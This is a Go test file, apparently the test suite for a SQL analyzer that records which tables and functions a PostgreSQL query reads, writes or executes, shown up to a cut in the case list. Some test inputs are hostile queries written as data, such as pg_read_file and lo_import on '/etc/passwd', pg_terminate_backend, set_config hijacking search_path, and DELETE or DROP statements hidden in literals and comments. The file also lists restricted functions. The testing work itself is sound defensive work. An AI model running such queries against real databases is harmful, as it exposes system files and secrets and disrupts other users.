package sql

import (
	"context"
	"errors"
	"fmt"
	"slices"
	"strings"
	"testing"

	"github.com/warden-mcp/warden"
)

// fakeNames resolves names from maps; anything not listed resolves to
// public, as with search_path = public. A name mapped to "" does not
// resolve.
type fakeNames struct {
	relations map[string]string
	functions map[string]string
}

func (f fakeNames) RelationSchema(name string) string { return fakeLookup(f.relations, name) }
func (f fakeNames) FunctionSchema(name string) string { return fakeLookup(f.functions, name) }

// TypeSchema resolves the built-in type names the tests use to pg_catalog.
func (f fakeNames) TypeSchema(name string) string {
	switch name {
	case "text", "int4", "int8", "numeric", "date", "jsonb", "json", "bool", "varchar", "regclass", "bytea", "timestamptz":
		return "pg_catalog"
	}
	return fakeLookup(f.relations, name)
}

func fakeLookup(m map[string]string, name string) string {
	if schema, ok := m[name]; ok {
		return schema
	}
	return "public"
}

var testNames = fakeNames{
	relations: map[string]string{
		"pg_class":         "pg_catalog",
		"pg_stat_activity": "pg_catalog",
		"nowhere":          "",
	},
	functions: catalogFunctions(
		"now", "upper", "lower", "avg", "length", "count", "max", "sum", "row_number",
		"generate_series", "pg_sleep", "coalesce", "current_setting",
		"pg_read_file", "pg_read_binary_file", "pg_ls_dir", "pg_stat_file",
		"lo_import", "lo_export", "pg_terminate_backend", "pg_reload_conf",
		"set_config", "pg_advisory_lock", "pg_try_advisory_xact_lock", "pg_notify",
		"nextval", "setval", "query_to_xml", "table_to_xml", "ts_stat",
		"pg_copy_logical_replication_slot", "pg_create_restore_point",
		"pg_stat_reset_shared", "brin_summarize_new_values",
	),
}

func catalogFunctions(names ...string) map[string]string {
	m := map[string]string{"nowhere": ""}
	for _, n := range names {
		m[n] = "pg_catalog"
	}
	return m
}

type analyzeCase struct {
	name  string
	sql   string
	kind  string
	ops   []string // "verb schema.object", sorted
	funcs []string
}

func TestAnalyze(t *testing.T) {
	cases := []analyzeCase{
		// Harmless statements.
		{name: "AllowsSelectOne", sql: "SELECT 1", kind: "select"},
		{name: "AllowsNow", sql: "SELECT now()", kind: "select", funcs: []string{"pg_catalog.now"}},
		{name: "AllowsValues", sql: "VALUES (1), (2)", kind: "select"},
		{name: "AllowsPgSleep", sql: "SELECT pg_sleep(1)", kind: "select", funcs: []string{"pg_catalog.pg_sleep"}},
		{name: "JudgesCurrentSetting", sql: "SELECT current_setting('search_path')", kind: "select", ops: []string{"execute pg_catalog.current_setting"}, funcs: []string{"pg_catalog.current_setting"}},
		{name: "TreatsSQLInStringLiteralAsData", sql: "SELECT 'DELETE FROM orders'", kind: "select"},
		{name: "TreatsEscapedQuoteInEscapeStringAsData", sql: `SELECT E'\'; DELETE FROM orders; --'`, kind: "select"},
		{name: "TreatsDollarQuotedTextAsData", sql: "SELECT $$; DELETE FROM orders; $$", kind: "select"},
		{name: "TreatsTaggedDollarQuoteAsData", sql: "SELECT $x$ $$; DROP TABLE orders; $$ $x$", kind: "select"},
		{name: "IgnoresLineComment", sql: "-- DELETE FROM orders\nSELECT 1 -- ; DROP TABLE orders", kind: "select"},
		{name: "IgnoresBlockComment", sql: "SELECT /* ; DELETE FROM orders; */ 1", kind: "select"},
		{name: "IgnoresNestedBlockComment", sql: "SELECT /* /* */ ; DELETE FROM orders; */ 1", kind: "select"},
		{name: "AllowsTrailingSemicolons", sql: "SELECT 1;;", kind: "select"},
		{name: "ListsHarmlessCatalogFunctionsWithoutOps", sql: "SELECT upper(name), count(*), coalesce(max(total), 0) FROM orders GROUP BY 1", kind: "select",
			ops: []string{"select public.orders"}, funcs: []string{"pg_catalog.count", "pg_catalog.max", "pg_catalog.upper"}},

		// Reads.
		{name: "ReadsTable", sql: "SELECT * FROM orders", kind: "select", ops: []string{"select public.orders"}},
		{name: "KeepsSchemaQualifiedName", sql: "SELECT * FROM sales.orders", kind: "select", ops: []string{"select sales.orders"}},
		{name: "FoldsUnquotedNames", sql: "SELECT * FROM Sales.ORDERS", kind: "select", ops: []string{"select sales.orders"}},
		{name: "KeepsQuotedIdentifierExact", sql: `SELECT * FROM "Orders"`, kind: "select", ops: []string{"select public.Orders"}},
		{name: "KeepsQuotedSchemaExact", sql: `SELECT * FROM "Sales"."Big Orders"`, kind: "select", ops: []string{"select Sales.Big Orders"}},
		{name: "ResolvesCatalogRelations", sql: "SELECT relname FROM pg_class", kind: "select", ops: []string{"select pg_catalog.pg_class"}},
		{name: "ReadsEveryJoinedTable", sql: "SELECT * FROM orders o JOIN customers c USING (customer_id) LEFT JOIN sales.items i ON i.order_id = o.id CROSS JOIN regions", kind: "select",
			ops: []string{"select public.customers", "select public.orders", "select public.regions", "select sales.items"}},
		{name: "ReadsSubqueryInJoinOn", sql: "SELECT * FROM orders o JOIN customers c ON c.id = o.customer_id AND NOT EXISTS (SELECT 1 FROM blocked b WHERE b.id = c.id)", kind: "select",
			ops: []string{"select public.blocked", "select public.customers", "select public.orders"}},
		{name: "ReadsSubqueryInSelectList", sql: "SELECT id, (SELECT max(total) FROM invoices) FROM orders", kind: "select",
			ops: []string{"select public.invoices", "select public.orders"}, funcs: []string{"pg_catalog.max"}},
		{name: "ReadsSubqueryInWhere", sql: "SELECT * FROM orders WHERE customer_id IN (SELECT id FROM customers)", kind: "select",
			ops: []string{"select public.customers", "select public.orders"}},
		{name: "ReadsSubqueryInHaving", sql: "SELECT status FROM orders GROUP BY status HAVING count(*) > (SELECT count(*) FROM customers)", kind: "select",
			ops: []string{"select public.customers", "select public.orders"}, funcs: []string{"pg_catalog.count"}},
		{name: "ReadsSubqueryInOrderBy", sql: "SELECT * FROM orders ORDER BY (SELECT 1 FROM secrets LIMIT 1)", kind: "select",
			ops: []string{"select public.orders", "select public.secrets"}},
		{name: "ReadsSubqueryInLimit", sql: "SELECT * FROM orders LIMIT (SELECT count(*) FROM secrets)", kind: "select",
			ops: []string{"select public.orders", "select public.secrets"}, funcs: []string{"pg_catalog.count"}},
		{name: "ReadsSubqueryInValues", sql: "VALUES ((SELECT count(*) FROM secrets))", kind: "select",
			ops: []string{"select public.secrets"}, funcs: []string{"pg_catalog.count"}},
		{name: "ReadsSubqueryInFunctionArgument", sql: "SELECT upper((SELECT name FROM secrets LIMIT 1))", kind: "select",
			ops: []string{"select public.secrets"}, funcs: []string{"pg_catalog.upper"}},
		{name: "ReadsSubqueryInCase", sql: "SELECT CASE WHEN EXISTS (SELECT 1 FROM secrets) THEN 1 END", kind: "select", ops: []string{"select public.secrets"}},
		{name: "ReadsSubqueryInWindowDefinition", sql: "SELECT row_number() OVER (ORDER BY (SELECT 1 FROM secrets)) FROM orders", kind: "select",
			ops: []string{"select public.orders", "select public.secrets"}, funcs: []string{"pg_catalog.row_number"}},
		{name: "ReadsSubqueryInAggregateFilter", sql: "SELECT count(*) FILTER (WHERE id IN (SELECT id FROM secrets)) FROM orders", kind: "select",
			ops: []string{"select public.orders", "select public.secrets"}, funcs: []string{"pg_catalog.count"}},
		{name: "ReadsSubqueryInFrom", sql: "SELECT * FROM (SELECT * FROM orders) o", kind: "select", ops: []string{"select public.orders"}},
		{name: "ReadsLateralSubquery", sql: "SELECT * FROM orders o, LATERAL (SELECT * FROM items i WHERE i.order_id = o.id) x", kind: "select",
			ops: []string{"select public.items", "select public.orders"}},
		{name: "ReadsTableStatement", sql: "TABLE sales.orders", kind: "select", ops: []string{"select sales.orders"}},
		{name: "ReadsEverySetOperationBranch", sql: "SELECT id FROM a UNION SELECT id FROM b INTERSECT SELECT id FROM c EXCEPT ALL SELECT id FROM d", kind: "select",
			ops: []string{"select public.a", "select public.b", "select public.c", "select public.d"}},
		{name: "ReadsTablesample", sql: "SELECT * FROM orders TABLESAMPLE SYSTEM (10)", kind: "select", ops: []string{"select public.orders"}},
		{name: "ReadsViewAsRelation", sql: "SELECT * FROM reporting.monthly_totals", kind: "select", ops: []string{"select reporting.monthly_totals"}},
		{name: "ReadsCatalogView", sql: "SELECT * FROM pg_stat_activity", kind: "select", ops: []string{"select pg_catalog.pg_stat_activity"}},

		// CTE scoping.
		{name: "ReadsThroughCTE", sql: "WITH recent AS (SELECT * FROM orders) SELECT * FROM recent", kind: "select", ops: []string{"select public.orders"}},
		{name: "ReadsTableShadowedByCTEInSubquery", sql: "SELECT * FROM (WITH orders AS (SELECT 1) SELECT * FROM orders) a, orders", kind: "select",
			ops: []string{"select public.orders"}},
		{name: "ReadsTableOfSameNameInsideCTEBody", sql: "WITH orders AS (SELECT * FROM orders WHERE total > 10) SELECT * FROM orders", kind: "select",
			ops: []string{"select public.orders"}},
		{name: "DoesNotLeakCTEToSiblingSubquery", sql: "SELECT (SELECT count(*) FROM (WITH secrets AS (SELECT 1) SELECT * FROM secrets) s), (SELECT count(*) FROM secrets)", kind: "select",
			ops: []string{"select public.secrets"}, funcs: []string{"pg_catalog.count"}},
		{name: "DoesNotLeakCTEFromSetOperationBranch", sql: "(WITH secrets AS (SELECT 1) SELECT * FROM secrets) UNION ALL SELECT * FROM secrets", kind: "select",
			ops: []string{"select public.secrets"}},
		{name: "HidesCTEOnlyWhereVisible", sql: "WITH x AS (SELECT 1) SELECT * FROM orders WHERE id IN (SELECT * FROM x)", kind: "select",
			ops: []string{"select public.orders"}},
		{name: "SeesEarlierSiblingCTE", sql: "WITH a AS (SELECT 1), b AS (SELECT * FROM a) SELECT * FROM b", kind: "select"},
		{name: "ReadsTableForLaterSiblingCTEName", sql: "WITH b AS (SELECT * FROM a), a AS (SELECT 1) SELECT * FROM b", kind: "select", ops: []string{"select public.a"}},
		{name: "ReadsRecursiveCTEBase", sql: "WITH RECURSIVE tree AS (SELECT id FROM nodes UNION ALL SELECT n.id FROM nodes n JOIN tree t ON n.parent = t.id) SELECT * FROM tree", kind: "select",
			ops: []string{"select public.nodes"}},
		{name: "SeesEveryRecursiveSibling", sql: "WITH RECURSIVE b AS (SELECT * FROM a), a AS (SELECT 1) SELECT * FROM b", kind: "select"},
		{name: "NeverTreatsSchemaQualifiedNameAsCTE", sql: "WITH orders AS (SELECT 1) SELECT * FROM public.orders", kind: "select", ops: []string{"select public.orders"}},
		{name: "AllowsKeywordCTEName", sql: `WITH "select" AS (SELECT 1) SELECT * FROM "select"`, kind: "select"},
		{name: "MatchesCTENamesExactly", sql: `WITH "Orders" AS (SELECT 1) SELECT * FROM "Orders", orders`, kind: "select", ops: []string{"select public.orders"}},
		{name: "MatchesFoldedCTENames", sql: `WITH ORDERS AS (SELECT 1) SELECT * FROM "orders"`, kind: "select"},

		// Functions.
		{name: "ListsSetReturningFunctionInFrom", sql: "SELECT * FROM generate_series(1, 3) g", kind: "select", funcs: []string{"pg_catalog.generate_series"}},
		{name: "ExecutesUserFunctionInFrom", sql: "SELECT * FROM reports.monthly(2024)", kind: "select",
			ops: []string{"execute reports.monthly"}, funcs: []string{"reports.monthly"}},
		{name: "ExecutesUserFunctionInRowsFrom", sql: "SELECT * FROM ROWS FROM (generate_series(1, 2), billing.lines()) AS t(a, b)", kind: "select",
			ops: []string{"execute billing.lines"}, funcs: []string{"billing.lines", "pg_catalog.generate_series"}},
		{name: "ExecutesUserFunctionInOtherSchema", sql: "SELECT billing.charge(42)", kind: "select",
			ops: []string{"execute billing.charge"}, funcs: []string{"billing.charge"}},
		{name: "ExecutesUnqualifiedUserFunction", sql: "SELECT * FROM orders WHERE my_check(id)", kind: "select",
			ops: []string{"execute public.my_check", "select public.orders"}, funcs: []string{"public.my_check"}},
		{name: "ExecutesUserFunctionShadowingCatalogName", sql: "SELECT public.upper('x')", kind: "select",
			ops: []string{"execute public.upper"}, funcs: []string{"public.upper"}},
		{name: "ExecutesUserAggregate", sql: "SELECT stats.median(total) FROM orders", kind: "select",
			ops: []string{"execute stats.median", "select public.orders"}, funcs: []string{"stats.median"}},
		{name: "ExecutesRestrictedFunction", sql: "SELECT pg_read_file('/etc/passwd')", kind: "select",
			ops: []string{"execute pg_catalog.pg_read_file"}, funcs: []string{"pg_catalog.pg_read_file"}},
		{name: "ExecutesQualifiedRestrictedFunction", sql: "SELECT pg_catalog.pg_read_file('/etc/passwd')", kind: "select",
			ops: []string{"execute pg_catalog.pg_read_file"}, funcs: []string{"pg_catalog.pg_read_file"}},
		{name: "ExecutesRestrictedFunctionInSubquery", sql: "SELECT * FROM orders WHERE note = (SELECT pg_read_binary_file('/etc/passwd')::text)", kind: "select",
			ops: []string{"execute pg_catalog.pg_read_binary_file", "select public.orders"}, funcs: []string{"pg_catalog.pg_read_binary_file"}},
		{name: "ExecutesRestrictedFunctionInFrom", sql: "SELECT * FROM pg_ls_dir('.')", kind: "select",
			ops: []string{"execute pg_catalog.pg_ls_dir"}, funcs: []string{"pg_catalog.pg_ls_dir"}},
		{name: "ExecutesRestrictedFunctionInOrderBy", sql: "SELECT * FROM orders ORDER BY pg_terminate_backend(42)", kind: "select",
			ops: []string{"execute pg_catalog.pg_terminate_backend", "select public.orders"}, funcs: []string{"pg_catalog.pg_terminate_backend"}},
		{name: "ExecutesLargeObjectFunction", sql: "SELECT lo_import('/etc/passwd')", kind: "select",
			ops: []string{"execute pg_catalog.lo_import"}, funcs: []string{"pg_catalog.lo_import"}},
		{name: "ExecutesSetConfig", sql: "SELECT set_config('search_path', 'evil', false)", kind: "select",
			ops: []string{"execute pg_catalog.set_config"}, funcs: []string{"pg_catalog.set_config"}},
		{name: "ExecutesAdvisoryLock", sql: "SELECT pg_try_advisory_xact_lock(1)", kind: "select",
			ops: []string{"execute pg_catalog.pg_try_advisory_xact_lock"}, funcs: []string{"pg_catalog.pg_try_advisory_xact_lock"}},
		{name: "ExecutesNotify", sql: "SELECT pg_notify('ch', 'x')", kind: "select",
			ops: []string{"execute pg_catalog.pg_notify"}, funcs: []string{"pg_catalog.pg_notify"}},
		{name: "ExecutesNextval", sql: "SELECT nextval('orders_id_seq')", kind: "select",
			ops: []string{"execute pg_catalog.nextval"}, funcs: []string{"pg_catalog.nextval"}},
		{name: "ExecutesQueryToXML", sql: "SELECT query_to_xml('SELECT * FROM secrets', true, false, '')", kind: "select",
			ops: []string{"execute pg_catalog.query_to_xml"}, funcs: []string{"pg_catalog.query_to_xml"}},
		{name: "ExecutesTableToXML", sql: "SELECT table_to_xml('secrets', true, false, '')", kind: "select",
			ops: []string{"execute pg_catalog.table_to_xml"}, funcs: []string{"pg_catalog.table_to_xml"}},
		{name: "ExecutesTsStat", sql: "SELECT * FROM ts_stat('SELECT body FROM secrets')", kind: "select",
			ops: []string{"execute pg_catalog.ts_stat"}, funcs: []string{"pg_catalog.ts_stat"}},
		{name: "ExecutesPatternMatchedRestrictedFunction", sql: "SELECT pg_copy_logical_replication_slot('a', 'b'), pg_create_restore_point('x'), pg_stat_reset_shared('wal'), brin_summarize_new_values('i')", kind: "select",
			ops:   []string{"execute pg_catalog.brin_summarize_new_values", "execute pg_catalog.pg_copy_logical_replication_slot", "execute pg_catalog.pg_create_restore_point", "execute pg_catalog.pg_stat_reset_shared"},
			funcs: []string{"pg_catalog.brin_summarize_new_values", "pg_catalog.pg_copy_logical_replication_slot", "pg_catalog.pg_create_restore_point", "pg_catalog.pg_stat_reset_shared"}},
		{name: "ExecutesQualifiedUserOperator", sql: "SELECT 1 OPERATOR(evil.+) 2", kind: "select", ops: []string{"execute evil.+"}},
		{name: "AllowsQualifiedCatalogOperator", sql: "SELECT 1 OPERATOR(pg_catalog.+) 2", kind: "select"},

		// Writes.
		{name: "InsertsValues", sql: "INSERT INTO orders (id, total) VALUES (1, 10)", kind: "insert", ops: []string{"insert public.orders"}},
		{name: "ReadsSourceOfInsertSelect", sql: "INSERT INTO archive.orders SELECT * FROM orders WHERE total > 0", kind: "insert",
			ops: []string{"insert archive.orders", "select public.orders"}},
		{name: "ReadsSubqueryInInsertValues", sql: "INSERT INTO log (msg) VALUES ((SELECT name FROM secrets LIMIT 1))", kind: "insert",
			ops: []string{"insert public.log", "select public.secrets"}},
		{name: "UpdatesOnConflictDoUpdate", sql: "INSERT INTO orders (id, total) VALUES (1, 10) ON CONFLICT (id) DO UPDATE SET total = EXCLUDED.total", kind: "insert",
			ops: []string{"insert public.orders", "update public.orders"}},
		{name: "OnlyInsertsOnConflictDoNothing", sql: "INSERT INTO orders (id) VALUES (1) ON CONFLICT DO NOTHING", kind: "insert", ops: []string{"insert public.orders"}},
		{name: "ReadsTargetOfInsertReturning", sql: "INSERT INTO orders (id) VALUES (1) RETURNING *", kind: "insert",
			ops: []string{"insert public.orders", "select public.orders"}},
		{name: "UpdatesWithoutSeparateReadOfTarget", sql: "UPDATE orders SET status = 'shipped' WHERE id = 1", kind: "update", ops: []string{"update public.orders"}},
		{name: "ReadsUpdateFrom", sql: "UPDATE orders o SET total = p.total FROM prices p WHERE p.id = o.id", kind: "update",
			ops: []string{"select public.prices", "update public.orders"}},
		{name: "ReadsSubqueryInUpdateSet", sql: "UPDATE orders SET total = (SELECT max(total) FROM invoices)", kind: "update",
			ops: []string{"select public.invoices", "update public.orders"}, funcs: []string{"pg_catalog.max"}},
		{name: "ReadsSubqueryInUpdateWhere", sql: "UPDATE orders SET total = 0 WHERE customer_id IN (SELECT id FROM customers)", kind: "update",
			ops: []string{"select public.customers", "update public.orders"}},
		{name: "ReadsTargetOfUpdateReturning", sql: "UPDATE orders SET total = 0 RETURNING id", kind: "update",
			ops: []string{"select public.orders", "update public.orders"}},
		{name: "Deletes", sql: "DELETE FROM orders WHERE id = 1", kind: "delete", ops: []string{"delete public.orders"}},
		{name: "ReadsDeleteUsing", sql: "DELETE FROM orders o USING customers c WHERE c.id = o.customer_id AND c.banned", kind: "delete",
			ops: []string{"delete public.orders", "select public.customers"}},
		{name: "ReadsTargetOfDeleteReturning", sql: "DELETE FROM orders WHERE id = 1 RETURNING *", kind: "delete",
			ops: []string{"delete public.orders", "select public.orders"}},
		{name: "MergesAndReadsSource", sql: "MERGE INTO orders o USING staging s ON o.id = s.id WHEN MATCHED THEN UPDATE SET total = s.total WHEN NOT MATCHED THEN INSERT VALUES (s.id, s.total)", kind: "merge",
			ops: []string{"merge public.orders", "select public.staging"}},
		{name: "MergesFromSubquery", sql: "MERGE INTO orders o USING (SELECT * FROM sales.staging) s ON o.id = s.id WHEN MATCHED THEN DELETE", kind: "merge",
			ops: []string{"merge public.orders", "select sales.staging"}},
		{name: "MergesWithSubqueryInCondition", sql: "MERGE INTO orders o USING staging s ON o.id = s.id WHEN MATCHED AND EXISTS (SELECT 1 FROM holds h WHERE h.id = o.id) THEN DO NOTHING", kind: "merge",
			ops: []string{"merge public.orders", "select public.holds", "select public.staging"}},
		{name: "TruncatesEachTable", sql: "TRUNCATE orders, sales.items", kind: "truncate", ops: []string{"truncate public.orders", "truncate sales.items"}},

		// Hidden writes.
		{name: "FindsDataModifyingCTE", sql: "WITH d AS (DELETE FROM orders RETURNING *) SELECT * FROM d", kind: "select",
			ops: []string{"delete public.orders", "select public.orders"}},
		{name: "FindsUnreferencedDataModifyingCTE", sql: "WITH d AS (DELETE FROM orders) SELECT 1", kind: "select", ops: []string{"delete public.orders"}},
		{name: "FindsNestedDataModifyingCTE", sql: "WITH a AS (WITH b AS (UPDATE orders SET total = 0 RETURNING id) SELECT * FROM b) SELECT * FROM a", kind: "select",
			ops: []string{"select public.orders", "update public.orders"}},
		{name: "FindsDataModifyingCTEInSubquery", sql: "SELECT * FROM (WITH d AS (INSERT INTO audit VALUES (1) RETURNING *) SELECT * FROM d) x", kind: "select",
			ops: []string{"insert public.audit", "select public.audit"}},
		{name: "FindsInsertCTEBeforeUpdate", sql: "WITH moved AS (INSERT INTO archive SELECT * FROM orders RETURNING id) UPDATE orders SET archived = true WHERE id IN (SELECT id FROM moved)", kind: "update",
			ops: []string{"insert public.archive", "select public.archive", "select public.orders", "update public.orders"}},
		{name: "FindsMergeInCTE", sql: "WITH m AS (MERGE INTO orders o USING staging s ON o.id = s.id WHEN MATCHED THEN DELETE RETURNING o.id) SELECT * FROM m", kind: "select",
			ops: []string{"merge public.orders", "select public.orders", "select public.staging"}},
		{name: "WritesRealTableShadowedByCTE", sql: "WITH orders AS (SELECT 1 AS id) INSERT INTO orders SELECT * FROM orders", kind: "insert", ops: []string{"insert public.orders"}},
		{name: "LocksForUpdate", sql: "SELECT * FROM orders WHERE id = 1 FOR UPDATE", kind: "select", ops: []string{"select public.orders", "update public.orders"}},
		{name: "LocksForNoKeyUpdate", sql: "SELECT * FROM orders FOR NO KEY UPDATE SKIP LOCKED", kind: "select", ops: []string{"select public.orders", "update public.orders"}},
		{name: "LocksForShare", sql: "SELECT * FROM orders FOR SHARE NOWAIT", kind: "select", ops: []string{"select public.orders", "update public.orders"}},
		{name: "LocksForKeyShare", sql: "SELECT * FROM orders FOR KEY SHARE", kind: "select", ops: []string{"select public.orders", "update public.orders"}},
		{name: "LocksEveryRelationForUpdateOf", sql: "SELECT * FROM orders o JOIN customers c ON c.id = o.customer_id FOR UPDATE OF o", kind: "select",
			ops: []string{"select public.customers", "select public.orders", "update public.customers", "update public.orders"}},
		{name: "LocksSubqueryInLockedFrom", sql: "SELECT * FROM (SELECT * FROM orders) o FOR UPDATE", kind: "select", ops: []string{"select public.orders", "update public.orders"}},
		{name: "LocksOnlyTheLockingLevel", sql: "SELECT * FROM customers WHERE id IN (SELECT customer_id FROM orders FOR UPDATE)", kind: "select",
			ops: []string{"select public.customers", "select public.orders", "update public.orders"}},
		{name: "CreatesTableWithSelectInto", sql: "SELECT * INTO archive FROM orders", kind: "ddl", ops: []string{"ddl public.archive", "select public.orders"}},
		{name: "CreatesTableWithSelectIntoInSetOperation", sql: "SELECT id INTO archive FROM orders UNION SELECT id FROM items", kind: "ddl",
			ops: []string{"ddl public.archive", "select public.items", "select public.orders"}},
		{name: "CreatesTableAs", sql: "CREATE TABLE archive.orders AS SELECT * FROM orders", kind: "ddl", ops: []string{"ddl archive.orders", "select public.orders"}},
		{name: "CreatesMaterializedView", sql: "CREATE MATERIALIZED VIEW totals AS SELECT sum(total) FROM orders", kind: "ddl",
			ops: []string{"ddl public.totals", "select public.orders"}, funcs: []string{"pg_catalog.sum"}},
		{name: "RunsStatementUnderExplainAnalyze", sql: "EXPLAIN ANALYZE DELETE FROM orders", kind: "explain analyze", ops: []string{"delete public.orders"}},
		{name: "RunsStatementUnderExplainAnalyzeOption", sql: "EXPLAIN (ANALYZE, BUFFERS) UPDATE orders SET total = 0", kind: "explain analyze", ops: []string{"update public.orders"}},
		{name: "RunsStatementUnderExplainAnalyzeTrue", sql: "EXPLAIN (ANALYZE true) INSERT INTO orders SELECT * FROM staging", kind: "explain analyze",
			ops: []string{"insert public.orders", "select public.staging"}},
		{name: "RunsStatementUnderExplainAnalyzeOne", sql: "EXPLAIN (ANALYZE 1) DELETE FROM orders", kind: "explain analyze", ops: []string{"delete public.orders"}},
		{name: "RunsStatementUnderExplainAnalyzeVerbose", sql: "EXPLAIN ANALYZE VERBOSE WITH d AS (DELETE FROM orders RETURNING *) SELECT * FROM d", kind: "explain analyze",
			ops: []string{"delete public.orders", "select public.orders"}},

		// EXPLAIN without ANALYZE only plans.
		{name: "OnlyReadsUnderExplain", sql: "EXPLAIN DELETE FROM orders WHERE id IN (SELECT id FROM old_orders)", kind: "explain",
			ops: []string{"select public.old_orders", "select public.orders"}},
		{name: "OnlyReadsUnderExplainAnalyzeFalse", sql: "EXPLAIN (ANALYZE false) DELETE FROM orders", kind: "explain", ops: []string{"select public.orders"}},
		{name: "OnlyReadsUnderExplainAnalyzeOff", sql: "EXPLAIN (ANALYZE OFF, COSTS off) UPDATE orders SET total = 0", kind: "explain", ops: []string{"select public.orders"}},
		{name: "OnlyReadsUnderExplainOfDataModifyingCTE", sql: "EXPLAIN WITH d AS (DELETE FROM orders RETURNING *) SELECT * FROM d", kind: "explain", ops: []string{"select public.orders"}},
		{name: "OnlyReadsUnderExplainOfLockingSelect", sql: "EXPLAIN SELECT * FROM orders FOR UPDATE", kind: "explain", ops: []string{"select public.orders"}},
		{name: "JudgesFunctionsUnderExplain", sql: "EXPLAIN SELECT pg_read_file('/etc/passwd')", kind: "explain",
			ops: []string{"execute pg_catalog.pg_read_file"}, funcs: []string{"pg_catalog.pg_read_file"}},

		// DDL.
		{name: "CreatesTableAndReadsReferencedTable", sql: "CREATE TABLE sales.items (id int PRIMARY KEY, order_id int REFERENCES orders (id))", kind: "ddl",
			ops: []string{"ddl sales.items", "select public.orders"}},
		{name: "CreatesTableLike", sql: "CREATE TABLE orders_copy (LIKE orders INCLUDING ALL)", kind: "ddl", ops: []string{"ddl public.orders_copy", "select public.orders"}},
		{name: "CreatesUnloggedTable", sql: "CREATE UNLOGGED TABLE scratch (id int)", kind: "ddl", ops: []string{"ddl public.scratch"}},
		{name: "CreatesPartitionAndChangesParent", sql: "CREATE TABLE orders_2024 PARTITION OF orders FOR VALUES FROM ('2024-01-01') TO ('2025-01-01')", kind: "ddl",
			ops: []string{"ddl public.orders", "ddl public.orders_2024"}},
		{name: "JudgesColumnDefault", sql: "CREATE TABLE t (id bigint DEFAULT nextval('s'), at timestamptz DEFAULT now())", kind: "ddl",
			ops: []string{"ddl public.t", "execute pg_catalog.nextval"}, funcs: []string{"pg_catalog.nextval", "pg_catalog.now"}},
		{name: "AltersTable", sql: "ALTER TABLE orders ADD COLUMN note text", kind: "ddl", ops: []string{"ddl public.orders"}},
		{name: "AltersTableAndReadsForeignKeyTarget", sql: "ALTER TABLE sales.items ADD CONSTRAINT fk FOREIGN KEY (order_id) REFERENCES orders (id)", kind: "ddl",
			ops: []string{"ddl sales.items", "select public.orders"}},
		{name: "AttachesPartition", sql: "ALTER TABLE orders ATTACH PARTITION orders_2025 FOR VALUES FROM ('2025-01-01') TO ('2026-01-01')", kind: "ddl",
			ops: []string{"ddl public.orders", "ddl public.orders_2025"}},
		{name: "DropsTables", sql: "DROP TABLE IF EXISTS orders, sales.items", kind: "ddl", ops: []string{"ddl public.orders", "ddl sales.items"}},
		{name: "DropsView", sql: "DROP VIEW reporting.totals", kind: "ddl", ops: []string{"ddl reporting.totals"}},
		{name: "DropsIndex", sql: "DROP INDEX CONCURRENTLY orders_total_idx", kind: "ddl", ops: []string{"ddl public.orders_total_idx"}},
		{name: "DropsFunction", sql: "DROP FUNCTION billing.charge(int), cleanup", kind: "ddl", ops: []string{"ddl billing.charge", "ddl public.cleanup"}},
		{name: "DropsType", sql: "DROP TYPE mood", kind: "ddl", ops: []string{"ddl public.mood"}},
		{name: "DropsSchemaByBareName", sql: "DROP SCHEMA reporting", kind: "ddl", ops: []string{"ddl reporting"}},
		{name: "DropsTriggerOnItsTable", sql: "DROP TRIGGER audit ON sales.orders", kind: "ddl", ops: []string{"ddl sales.orders"}},
		{name: "DropsPolicyOnItsTable", sql: "DROP POLICY p ON orders", kind: "ddl", ops: []string{"ddl public.orders"}},
		{name: "CreatesIndexInTableSchema", sql: "CREATE INDEX items_name_idx ON sales.items (lower(name))", kind: "ddl",
			ops: []string{"ddl sales.items", "ddl sales.items_name_idx"}, funcs: []string{"pg_catalog.lower"}},
		{name: "CreatesUnnamedIndex", sql: "CREATE UNIQUE INDEX ON orders (id)", kind: "ddl", ops: []string{"ddl public.orders"}},
		{name: "RenamesTableAndClaimsNewName", sql: "ALTER TABLE orders RENAME TO orders_old", kind: "ddl", ops: []string{"ddl public.orders", "ddl public.orders_old"}},
		{name: "RenamesColumn", sql: "ALTER TABLE orders RENAME COLUMN total TO amount", kind: "ddl", ops: []string{"ddl public.orders"}},
		{name: "RenamesFunction", sql: "ALTER FUNCTION billing.charge(int) RENAME TO bill", kind: "ddl", ops: []string{"ddl billing.bill", "ddl billing.charge"}},
		{name: "RenamesSchema", sql: "ALTER SCHEMA reporting RENAME TO reports", kind: "ddl", ops: []string{"ddl reporting", "ddl reports"}},
		{name: "MovesTableToSchema", sql: "ALTER TABLE orders SET SCHEMA archive", kind: "ddl", ops: []string{"ddl archive.orders", "ddl public.orders"}},
		{name: "MovesTypeToSchema", sql: "ALTER TYPE mood SET SCHEMA archive", kind: "ddl", ops: []string{"ddl archive.mood", "ddl public.mood"}},
		{name: "CommentsOnTable", sql: "COMMENT ON TABLE orders IS 'DROP TABLE orders'", kind: "ddl", ops: []string{"ddl public.orders"}},
		{name: "CommentsOnColumn", sql: "COMMENT ON COLUMN sales.orders.total IS 'x'", kind: "ddl", ops: []string{"ddl sales.orders"}},
		{name: "CommentsOnFunction", sql: "COMMENT ON FUNCTION billing.charge(int) IS 'x'", kind: "ddl", ops: []string{"ddl billing.charge"}},
		{name: "CreatesSequence", sql: "CREATE SEQUENCE order_ids", kind: "ddl", ops: []string{"ddl public.order_ids"}},
		{name: "AltersSequence", sql: "ALTER SEQUENCE sales.order_ids RESTART", kind: "ddl", ops: []string{"ddl sales.order_ids"}},
		{name: "CreatesSchema", sql: "CREATE SCHEMA IF NOT EXISTS reporting", kind: "ddl", ops: []string{"ddl reporting"}},
		{name: "CreatesView", sql: "CREATE OR REPLACE VIEW reporting.big AS SELECT * FROM orders WHERE total > (SELECT avg(total) FROM orders)", kind: "ddl",
			ops: []string{"ddl reporting.big", "select public.orders"}, funcs: []string{"pg_catalog.avg"}},
		{name: "CreatesEnumType", sql: "CREATE TYPE mood AS ENUM ('sad', 'happy')", kind: "ddl", ops: []string{"ddl public.mood"}},
		{name: "CreatesCompositeType", sql: "CREATE TYPE sales.pair AS (a int, b int)", kind: "ddl", ops: []string{"ddl sales.pair"}},
		{name: "CreatesDomain", sql: "CREATE DOMAIN positive AS int CHECK (VALUE > 0)", kind: "ddl", ops: []string{"ddl public.positive"}},
		{name: "TreatsFunctionBodyStringAsData", sql: "CREATE FUNCTION cleanup() RETURNS void LANGUAGE sql AS $$ DELETE FROM orders $$", kind: "ddl",
			ops: []string{"ddl public.cleanup"}},
